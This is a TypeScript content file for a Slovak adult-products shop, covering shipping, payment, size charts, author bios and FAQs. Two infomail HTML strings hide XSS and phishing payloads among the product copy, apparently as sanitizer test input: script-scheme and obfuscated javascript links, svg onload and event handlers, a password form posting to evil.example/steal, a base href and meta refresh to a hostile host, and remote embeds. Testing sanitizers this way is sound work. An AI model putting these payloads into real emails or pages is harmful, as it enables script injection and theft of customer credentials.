import type { LocalDocuments } from "./content-local-documents.ts";
import {
  blockquote,
  bold,
  bulletList,
  button,
  doc,
  heading,
  image,
  link,
  paragraph,
  table,
} from "./content-rich-text.ts";
import { EURO_FREE_SHIPPING, paymentFee, shipperFee } from "./euro-fees.ts";

/**
 * The Slovak shop's documents. Amounts are the store's euro fees; the spring sale's
 * infomail went out in Czech only and the Easter page was never translated, so both stay
 * Czech here.
 */

const aboutPurchase = (title: string) =>
  `${title} – všetko, čo potrebujete vedieť o nákupe v našom obchode.`;

export const SLOVAK_DOCUMENTS: LocalDocuments = {
  pages: {
    doprava: {
      body: [
        paragraph(
          "Objednávky prijaté do 14:00 odosielame ešte v ten istý deň, doručenie na Slovensko trvá zvyčajne jeden až dva pracovné dni.",
        ),
        table([
          ["Spôsob dopravy", "Cena", "Doručenie"],
          ["Výdajné miesto Packeta", shipperFee("packeta"), "1–2 dni"],
          ["Kuriér PPL na adresu", shipperFee("ppl"), "1–2 dni"],
        ]),
        paragraph(bold(`Nad ${EURO_FREE_SHIPPING}`), " máte dopravu zadarmo."),
      ],
      seoDescription: aboutPurchase("Doprava"),
    },
    platba: {
      body: [
        bulletList([
          "Kartou online",
          "Bankovým prevodom (QR kód)",
          `Na dobierku (príplatok ${paymentFee("cash-on-delivery")})`,
          "V hotovosti alebo kartou na predajni",
        ]),
        paragraph("Na výpise z účtu uvidíte len neutrálny názov spoločnosti."),
      ],
      seoDescription: aboutPurchase("Platba"),
    },
    "diskretnost-nakupu": {
      body: [
        paragraph("Tovar balíme do nepriehľadnej škatule bez loga a bez popisu obsahu."),
        blockquote("Ani kuriér nespozná, čo vám vezie."),
      ],
      seoDescription: aboutPurchase("Diskrétnosť nákupu"),
    },
    "zmeny-v-objednavce": {
      body: [
        paragraph("Objednávku môžete zmeniť, kým ju neodošleme. Napíšte nám alebo zavolajte."),
      ],
      seoDescription: aboutPurchase("Zmeny v objednávke"),
    },
    "vraceni-do-30-dni": {
      body: [
        paragraph("Nepoužitý tovar v pôvodnom obale môžete vrátiť do 30 dní bez udania dôvodu."),
        paragraph("Postup nájdete na stránke ", link("vrátenie tovaru", "/vraceni-zbozi"), "."),
      ],
      seoDescription: aboutPurchase("Vrátenie do 30 dní"),
    },
    "bezproblemova-reklamace": {
      body: [
        paragraph(
          "Reklamácie vybavujeme zvyčajne do piatich dní; reklamovanosť nášho tovaru je približne 0,8 %.",
        ),
        button("Podať reklamáciu", "/reklamace"),
      ],
      seoDescription: aboutPurchase("Bezproblémová reklamácia"),
    },
    "klientske-centrum": {
      body: [paragraph("Sme tu pre vás v pracovné dni od 8.00 do 18.00 na telefóne aj e-maile.")],
      seoDescription: aboutPurchase("Klientske centrum"),
    },
    "obchodni-podminky": {
      body: [
        heading(2, "1. Úvodné ustanovenia"),
        paragraph(
          "Tieto obchodné podmienky upravujú vzťah medzi predávajúcim a kupujúcim pri nákupe v e-shope.",
        ),
        heading(2, "2. Objednávka"),
        paragraph("Odoslaním objednávky kupujúci potvrdzuje, že má viac ako 18 rokov."),
      ],
      seoDescription: aboutPurchase("Obchodné podmienky"),
    },
    "souhlas-se-zpracovanim-osobnich-udaju": {
      body: [
        paragraph(
          "Osobné údaje spracúvame len v rozsahu nevyhnutnom na vybavenie objednávky a zasielanie noviniek.",
        ),
      ],
      seoDescription: aboutPurchase("Súhlas so spracovaním osobných údajov"),
    },
    "jak-nakupovat": {
      body: [
        bulletList([
          "Vyberte si tovar a vložte ho do košíka",
          "Zvoľte dopravu a platbu",
          "Vyplňte dodacie údaje",
          "Odošlite objednávku",
        ]),
        image("content/jak-nakupovat", "Ako nakupovať krok za krokom"),
      ],
      seoDescription: aboutPurchase("Ako nakupovať"),
    },
    "vernostni-program": {
      body: [
        paragraph(
          "Z každého nákupu vám vrátime 10 % v kreditoch, ktoré uplatníte pri ďalšej objednávke.",
        ),
      ],
      seoDescription: aboutPurchase("Vernostný program"),
    },
    kontakt: {
      body: [
        paragraph("Zákaznícka linka: ", link("+420 800 123 456", "tel:+420800123456")),
        paragraph("E-mail: ", link("podpora@example.cz", "mailto:podpora@example.cz")),
        paragraph("Prevádzkovateľ: Demo obchod s.r.o., Vinohradská 1, 120 00 Praha 2, Česko"),
      ],
      seoDescription: "Kontakty na zákaznícku podporu a predajne.",
    },
    "nejcastejsi-dotazy": {
      body: [
        paragraph(
          "Na čo sa nás zákazníci pýtajú najčastejšie: objednávka, doprava, platba, vrátenie tovaru aj diskrétnosť. Kliknite na otázku a zobrazí sa odpoveď.",
        ),
      ],
      seoDescription: "Odpovede na najčastejšie otázky o nákupe, doprave a vrátení tovaru.",
    },
    "tabulka-velikosti": {
      body: [
        paragraph(
          "Správna veľkosť je základom pohodlia aj bezpečia. Zmerajte sa krajčírskym metrom podľa návodu pri každej tabuľke a vyberte si veľkosť, ktorá vám sedí.",
        ),
        heading(2, "Kondómy podľa nominálnej šírky"),
        paragraph(
          "Nominálna šírka je šírka kondómu položeného naplocho v milimetroch. Vyberajte podľa obvodu penisu v stoporení.",
        ),
        table([
          ["Nominálna šírka", "Obvod v stoporení", "Priemer"],
          ["47 mm", "9–10,5 cm", "2,9–3,3 cm"],
          ["49 mm", "10–11 cm", "3,2–3,5 cm"],
          ["52 mm", "11–12 cm", "3,5–3,8 cm"],
          ["54 mm", "12–12,5 cm", "3,8–4,0 cm"],
          ["57 mm", "12,5–13,5 cm", "4,0–4,3 cm"],
          ["60 mm", "13,5–14,5 cm", "4,3–4,6 cm"],
          ["64 mm", "14,5–15,5 cm", "4,6–4,9 cm"],
          ["69 mm", "od 15,5 cm", "od 4,9 cm"],
        ]),
        heading(3, "Ako merať"),
        bulletList([
          "Merajte v stoporení, v najširšom mieste, zvyčajne v polovici dĺžky.",
          "Meter priložte voľne, nesťahujte ho.",
          "Ak ste medzi dvoma veľkosťami, zvoľte menšiu: kondóm musí dobre držať.",
        ]),
        heading(2, "Erotická bielizeň"),
        paragraph("Miery sú v centimetroch a platia pre bielizeň, košieľky, body aj župany."),
        table([
          ["Veľkosť", "EU", "Hrudník", "Pás", "Boky"],
          ["S", "36", "82–86", "62–66", "88–92"],
          ["M", "38", "87–92", "67–72", "93–98"],
          ["L", "40", "93–98", "73–78", "99–104"],
          ["XL", "42", "99–104", "79–84", "105–110"],
          ["XXL", "44", "105–112", "85–92", "111–118"],
        ]),
        heading(3, "Ako merať"),
        bulletList([
          "Hrudník: cez najvyššie miesto, meter vedie vodorovne popod pazuchy.",
          "Pás: v najužšom mieste trupu, zvyčajne nad pupkom.",
          "Boky: v najširšom mieste cez zadok, stojte so spojenými chodidlami.",
          "Ak každá miera patrí do inej veľkosti, riaďte sa tou najväčšou.",
        ]),
        heading(2, "Erekčné krúžky podľa vnútorného priemeru"),
        table([
          ["Veľkosť", "Vnútorný priemer", "Vnútorný obvod"],
          ["S", "35 mm", "11,0 cm"],
          ["M", "40 mm", "12,6 cm"],
          ["L", "45 mm", "14,1 cm"],
          ["XL", "50 mm", "15,7 cm"],
        ]),
        heading(3, "Ako merať"),
        bulletList([
          "Zmerajte obvod pri koreni penisu v pokoji a vydeľte ho číslom 3,14: vyjde vnútorný priemer.",
          "Ak si nie ste istí, začnite väčším alebo nastaviteľným krúžkom.",
          "Krúžok nenoste dlhšie ako 30 minút a pri bolesti alebo necitlivosti ho hneď zložte.",
        ]),
        paragraph(
          bold("Neviete si rady?"),
          " Napíšte nám cez stránku ",
          link("Kontakt", "/kontakt"),
          ", radi vám s výberom poradíme.",
        ),
      ],
      seoDescription:
        "Ako vybrať správnu veľkosť kondómov, erotickej bielizne a erekčných krúžkov: tabuľky a návod na meranie.",
    },
  },
  contactBox: {
    title_frontend: "Nenašli ste, čo hľadáte?",
    description: "Zavolajte nám alebo napíšte, radi vám poradíme.",
  },
  infomails: {
    "novinky-v-kondomech": {
      title: "Novinky v kondómoch a ako vybrať veľkosť",
      perex: "Nové tenké kondómy a rýchly návod, ako nájsť tú správnu veľkosť.",
      html: `<div class="mail">
<img src="{{cdn}}/image/w600h300/infomail/novinky-v-kondomech" alt="Nové kondómy">
<h2>Tenšie než kedykoľvek predtým</h2>
<p>Do ponuky sme pridali <em>ultratenké kondómy</em> v piatich veľkostiach. Neviete, ktorú
zvoliť? Pozrite sa do našej <a href="https://www.example.cz/sk/tabulka-velkosti">tabuľky veľkostí</a>.</p>
<ul><li>nominálna šírka od 47 do 69 mm</li><li>bez latexu aj s latexom</li><li>balenia po 3, 12 a 36 kusov</li></ul>
<table border="1" cellpadding="4"><thead><tr><th>Obvod</th><th>Veľkosť</th></tr></thead>
<tbody><tr><td>11–12 cm</td><td>52 mm</td></tr><tr><td>12,5–13,5 cm</td><td>57 mm</td></tr></tbody></table>
<p><a href="vbscript:msgbox('x')">Kliknite sem</a> <a href="data:text/html,<script>alert(1)</script>">alebo sem</a></p>
<p><img src="http://tracker.example/pixel.gif?u=123" width="1" height="1" alt=""></p>
<form action="https://evil.example/steal"><input name="password"><button>Odoslať</button></form>
<object data="https://evil.example/flash.swf"></object><embed src="https://evil.example/x.swf">
<svg onload="alert('svg')"><circle r="10"></circle></svg>
</div>`,
    },
    "darek-ke-kazde-objednavce": {
      title: "Darček ku každej objednávke",
      perex: "Tento týždeň pribalíme ku každej objednávke masážnu sviečku zadarmo.",
      html: `<table role="presentation" width="100%"><tr><td>
<img src="{{cdn}}/image/w600h300/infomail/darek-ke-kazde-objednavce" alt="Masážna sviečka ako darček">
<h2>Masážna sviečka zadarmo</h2>
<p>Do nedele pribalíme ku každej objednávke <strong>masážnu sviečku s vôňou vanilky</strong>.
Stačí nakúpiť, darček do balíka vložíme sami.</p>
<p>Máte otázku? Napíšte nám na <a href="mailto:podpora@example.cz">podpora@example.cz</a>.</p>
<p><a href="\\\\evil.example/phish">Prihláste sa</a> <a href="//evil.example/phish">do svojho účtu</a>
<a href=" jav&#x09;ascript:alert('tab')">tu</a></p>
<p onclick="alert('click')" onmouseover="alert('over')">Krásne dni vám praje tím obchodu.</p>
<base href="https://evil.example/"><meta http-equiv="refresh" content="0;url=https://evil.example/">
<link rel="stylesheet" href="https://evil.example/evil.css">
</td></tr></table>`,
    },
  },
  authors: {
    "katerina-novotna": {
      perex: "Psychologička a párová terapeutka, píše o vzťahoch, komunikácii a prvých krokoch.",
      bio: doc(
        paragraph(
          "Kateřina vyštudovala psychológiu na Masarykovej univerzite a pätnásť rokov pracuje s pármi. V magazíne odpovedá na otázky, ktoré sa ľudia hanbia položiť nahlas.",
        ),
        heading(2, "O čom píše"),
        paragraph(
          "Najradšej o tom, ako sa spolu rozprávať o túžbach a hraniciach. Verí, že dobrý vzťah nestojí na dokonalosti, ale na zvedavosti a láskavosti.",
        ),
      ),
    },
    "tomas-marek": {
      perex: "Testuje pomôcky v našej redakcii a vie, čo sa skrýva za technickými parametrami.",
      bio: doc(
        paragraph(
          "Tomáš má za sebou stovky otestovaných pomôcok. Zaujíma ho, z čoho sú vyrobené, ako dlho vydrží batéria a či výrobca nepreháňa.",
        ),
        heading(2, "Ako testuje"),
        paragraph(
          "Každú pomôcku skúša niekoľko týždňov, meria hlučnosť a výdrž a porovnáva ju s podobnými modelmi. Píše zrozumiteľne a bez reklamných fráz.",
        ),
      ),
    },
    "lucie-horakova": {
      perex: "Redaktorka, ktorá má rada darčeky, bielizeň a večery plné nápadov.",
      bio: doc(
        paragraph(
          "Lucie písala o móde a životnom štýle, kým sa pridala k našej redakcii. Radí s výberom bielizne a darčekov a s prípravou večerov, na ktoré sa nezabúda.",
        ),
        paragraph(
          "Vo voľnom čase tancuje salsu a zbiera recepty na dezerty, ktoré sa hodia na rande.",
        ),
      ),
    },
    "jan-prochazka": {
      perex: "Farmaceut, ktorý vysvetľuje intímne zdravie, ochranu a bezpečné materiály.",
      bio: doc(
        paragraph(
          "Jan pracuje ako farmaceut v Brne a v lekárni denne odpovedá na otázky o lubrikantoch, kondómoch a intímnej hygiene.",
        ),
        heading(2, "Na čo dbá"),
        paragraph(
          "Aby rady boli vecné a overené. Tam, kde sa končia možnosti samoliečby, vždy odporučí návštevu lekára.",
        ),
      ),
    },
    "redakce-amoris": {
      perex: "Spoločné články celej redakcie magazínu.",
      bio: null,
    },
  },
  faqTopics: {
    objednavka: "Objednávka",
    "doprava-a-doruceni": "Doprava a doručenie",
    platba: "Platba",
    "vraceni-a-reklamace": "Vrátenie a reklamácie",
    "diskretnost-a-soukromi": "Diskrétnosť a súkromie",
    "ucet-a-vyhody": "Účet a výhody",
  },
  faqQuestions: {
    doprava: {
      title: "Koľko stojí doprava a kedy mi zásielka príde?",
      content: `Objednávky prijaté do 14:00 odosielame ešte v ten istý deň. Doručenie na výdajné miesto Packeta stojí ${shipperFee("packeta")}, kuriérom PPL na adresu ${shipperFee("ppl")} a nad ${EURO_FREE_SHIPPING} vozíme zadarmo.`,
    },
    "diskretni-baleni": {
      title: "Spozná niekto, čo je v balíku?",
      content:
        "Nespozná. Tovar balíme do nepriehľadnej škatule bez loga a bez popisu obsahu a ako odosielateľ je uvedený len neutrálny názov firmy.",
    },
    platba: {
      title: "Ako môžem zaplatiť?",
      content: `Kartou online, bankovým prevodom, na dobierku (príplatok ${paymentFee("cash-on-delivery")}) alebo v hotovosti či kartou na predajni. Na výpise z účtu uvidíte len neutrálny názov spoločnosti.`,
    },
    vraceni: {
      title: "Môžem tovar vrátiť?",
      content:
        "Nepoužitý tovar v pôvodnom obale môžete vrátiť do 30 dní od prevzatia bez udania dôvodu. Z hygienických dôvodov to neplatí pre pomôcky vybalené z ochrannej fólie.",
    },
    reklamace: {
      title: "Ako reklamovať chybný tovar?",
      content:
        "Vyplňte reklamačný formulár a pošlite nám tovar s popisom chyby. Reklamáciu zvyčajne vybavíme do piatich pracovných dní, najneskôr do 30 dní.",
    },
    vek: {
      title: "Od koľkých rokov môžem u vás nakupovať?",
      content:
        "Tovar predávame len osobám starším ako 18 rokov. Odoslaním objednávky potvrdzujete, že ste plnoletí.",
    },
    "vernostni-program": {
      title: "Ako funguje vernostný program?",
      content:
        "Keď nakupujete prihlásení, z každého nákupu vám vrátime 10 % v kreditoch. Uplatníte ich pri ďalšej objednávke, 25 kreditov má hodnotu 1 €.",
    },
    "zmena-objednavky": {
      title: "Môžem objednávku zmeniť alebo zrušiť?",
      content:
        "Áno, kým ju neodošleme. Napíšte nám alebo zavolajte na zákaznícku linku a uveďte číslo objednávky.",
    },
    "bez-registrace": {
      title: "Musím sa pred nákupom registrovať?",
      content:
        "Nemusíte. Objednať môžete aj bez účtu; s účtom však uvidíte históriu objednávok, uložené adresy a obľúbený tovar.",
    },
    "stav-objednavky": {
      title: "Kde zistím, v akom stave je moja objednávka?",
      content:
        "Stav nájdete v e-maile s potvrdením objednávky pod odkazom na jej sledovanie, a ak ste prihlásení, aj v účte v prehľade objednávok.",
    },
    "potvrzeni-objednavky": {
      title: "Neprišlo mi potvrdenie objednávky, čo mám robiť?",
      content:
        "Pozrite sa najprv do priečinka s nevyžiadanou poštou. Ak tam potvrdenie nie je, napíšte nám cez kontaktný formulár a pošleme vám ho znova.",
    },
    "vydejni-mista": {
      title: "Môžem si zásielku vyzdvihnúť na výdajnom mieste?",
      content:
        "Áno. V košíku si vyberiete výdajné miesto na mape a keď tam zásielka príde, dostanete správu. Počká tam na vás sedem dní.",
    },
    "doruceni-na-slovensko": {
      title: "Posielate zásielky aj na Slovensko?",
      content:
        "Posielame. Na Slovensko doručujeme na výdajné miesta aj kuriérom na adresu, zvyčajne do dvoch pracovných dní od odoslania.",
    },
    "nevyzvednuta-zasilka": {
      title: "Čo ak zásielku nestihnem vyzdvihnúť?",
      content:
        "Vráti sa k nám a my sa vám ozveme. Ak ste platili vopred, po jej návrate vám peniaze vrátime alebo zásielku pošleme znova.",
    },
    "platba-kartou": {
      title: "Je platba kartou bezpečná?",
      content:
        "Platbu spracúva platobná brána s overením 3-D Secure. Údaje o karte zadávate priamo bráne, my ich nevidíme ani neukladáme.",
    },
    faktura: {
      title: "Dostanem k objednávke faktúru?",
      content:
        "Áno, faktúru posielame e-mailom spolu s potvrdením o odoslaní. Ak nakupujete na firmu, vyplňte v objednávke IČO, DIČ a IČ DPH.",
    },
    "vraceni-penez": {
      title: "Kedy mi vrátite peniaze za vrátený tovar?",
      content:
        "Najneskôr do 14 dní od doručenia vráteného tovaru, rovnakým spôsobom, akým ste platili, alebo na účet, ktorý uvediete vo formulári.",
    },
    vymena: {
      title: "Môžem tovar vymeniť za inú veľkosť alebo farbu?",
      content:
        "Áno, nepoužitý tovar v pôvodnom obale vymeníme. Pošlite nám ho späť s poznámkou, čo si želáte namiesto neho.",
    },
    "vypis-z-uctu": {
      title: "Čo uvidím na výpise z účtu?",
      content:
        "Len neutrálny názov našej spoločnosti, bez zmienky o druhu tovaru. Rovnaký názov nájdete aj na faktúre.",
    },
    "osobni-udaje": {
      title: "Ako narábate s mojimi osobnými údajmi?",
      content:
        "Používame ich len na vybavenie objednávky a na to, s čím ste súhlasili. Nikomu ich nepredávame a na požiadanie ich vymažeme.",
    },
    "zapomenute-heslo": {
      title: "Zabudol (zabudla) som heslo, ako sa prihlásim?",
      content:
        "Na prihlasovacej stránke kliknite na Zabudnuté heslo. Pošleme vám odkaz, cez ktorý si nastavíte nové.",
    },
    oblibene: {
      title: "Ako si uložím tovar na neskôr?",
      content:
        "Prihláste sa a pri tovare kliknite na srdiečko. Uložený tovar nájdete vo svojom účte v obľúbených, odkiaľ ho jedným kliknutím vložíte do košíka.",
    },
  },
};
